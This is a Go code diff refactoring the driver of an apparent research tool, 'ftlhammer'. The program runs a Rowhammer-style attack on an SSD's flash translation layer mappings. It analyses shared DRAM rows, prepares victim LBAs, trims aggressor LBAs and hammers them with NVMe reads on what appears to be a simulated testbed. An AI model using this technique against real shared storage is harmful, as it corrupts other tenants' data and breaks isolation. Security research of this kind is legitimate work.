@@ -8,8 +8,8 @@ import (
 	"fmt"
 	"log"
 
+	"ftlhammer/internal/attack"
 	"ftlhammer/internal/cloud"
-	"ftlhammer/internal/core"
 	"ftlhammer/internal/dram"
 	"ftlhammer/internal/ftl"
 	"ftlhammer/internal/nand"
@@ -50,7 +50,7 @@ func main() {
 		id.Model, float64(id.Capacity)/(1<<30), id.BlockBytes, id.L2PKind)
 
 	// Ordinary I/O through the NVMe front end.
-	atk := core.NewAttacker(tb.Device, tb.AttackerNS, nvme.PathDirect)
+	dev, ns := tb.Device, tb.AttackerNS
 	buf := make([]byte, tb.Device.BlockBytes())
 	copy(buf, "hello flash")
 	if err := tb.Device.Write(tb.AttackerNS, 42, buf, nvme.PathDirect); err != nil {
@@ -63,7 +63,7 @@ func main() {
 	fmt.Printf("normal I/O: wrote and read back %q\n", got[:11])
 
 	// Offline analysis: which of my LBAs' translations share DRAM rows?
-	plans, err := atk.AnalyzeOwnPartition()
+	plans, err := attack.Analyze(dev, ns, attack.AnalyzeOptions{})
 	if err != nil {
 		log.Fatal(err)
 	}
@@ -71,12 +71,14 @@ func main() {
 
 	// Prepare the victim rows (sequential writes -> mapped entries),
 	// then hammer with ordinary reads of two trimmed LBAs.
-	budget := int(atk.RequiredRate()*0.064) * 2
+	pat := attack.DoublePattern()
+	pat.Iterations = attack.WindowBudget(dev, 2)
+	h := &attack.DeviceHammerer{Dev: dev, NS: ns, Path: nvme.PathDirect}
 	for n, plan := range plans {
 		for _, g := range plan.VictimGlobalLBAs {
 			for k := ftl.LBA(0); k < 16; k++ {
-				if g+k >= atk.NS.StartLBA && uint64(g+k-atk.NS.StartLBA) < atk.NS.NumLBAs {
-					if err := atk.PrepareRange(g+k-atk.NS.StartLBA, 1); err != nil {
+				if g+k >= ns.StartLBA && uint64(g+k-ns.StartLBA) < ns.NumLBAs {
+					if err := attack.PrepareRange(dev, ns, nvme.PathDirect, g+k-ns.StartLBA, 1); err != nil {
 						log.Fatal(err)
 					}
 				}
@@ -88,15 +90,10 @@ func main() {
 				before[g+k] = tb.FTL.PPNOf(g + k)
 			}
 		}
-		fast := plan
-		fast.AggLBAs = [2][]ftl.LBA{{plan.AggLBAs[0][0]}, {plan.AggLBAs[1][0]}}
-		if err := atk.TrimRange(fast.AggLBAs[0][0], 1); err != nil {
+		if err := attack.PinAndTrim(dev, ns, nvme.PathDirect, &plan); err != nil {
 			log.Fatal(err)
 		}
-		if err := atk.TrimRange(fast.AggLBAs[1][0], 1); err != nil {
-			log.Fatal(err)
-		}
-		if err := atk.Hammer(fast, core.HammerOptions{Pairs: budget}); err != nil {
+		if err := h.Hammer(plan, pat); err != nil {
 			log.Fatal(err)
 		}
 		for lba, old := range before {
